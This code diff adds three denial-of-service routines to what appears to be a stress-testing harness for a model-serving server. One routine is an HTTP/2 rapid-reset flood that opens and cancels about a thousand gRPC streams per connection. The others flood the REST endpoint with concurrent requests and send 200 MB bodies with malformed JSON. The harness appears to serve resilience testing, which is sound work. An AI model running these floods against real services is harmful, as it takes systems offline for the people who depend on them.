@@ -203,6 +203,38 @@ async def grpc_half_messages(target: Target) -> None:
     await target.each(lambda: target.send(target.grpc, once(sent)))
 
 
+@attack
+async def grpc_resets(target: Target) -> None:
+    """Calls by the thousand, each given up at once."""
+    calls = b"".join(
+        frame(1, grpc_head(CALL), flags=4, stream=number)
+        + frame(3, (8).to_bytes(4, "big"), stream=number)
+        for number in range(1, 2000, 2)
+    )
+    await target.each(lambda: target.send(target.grpc, once(PREFACE + frame(4, b"") + calls)))
+
+
+@attack
+async def askers(target: Target) -> None:
+    """As many good requests at once as there are clients, whoever else waits."""
+    body = b'{"signature_name": "raw", "instances": ["the cat is small"]}'
+    sent = HEAD + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+    await target.each(lambda: target.send(target.rest, once(sent)))
+
+
+@attack
+async def bodies_of_200_mb(target: Target) -> None:
+    """Whole, as large as is allowed, and no JSON at their end."""
+    size, head = 200 << 20, b"Content-Length: %d\r\nConnection: close\r\n\r\n"
+
+    async def pieces() -> AsyncIterator[bytes]:
+        yield HEAD + head % size + b'{"instances": ["'
+        for _ in range(size // PIECE):
+            yield b"x" * PIECE
+
+    await target.each(lambda: target.send(target.rest, pieces()))
+
+
 def frame(kind: int, payload: bytes, flags: int = 0, stream: int = 0) -> bytes:
     """An HTTP/2 frame."""
     size, number = len(payload).to_bytes(3, "big"), stream.to_bytes(4, "big")
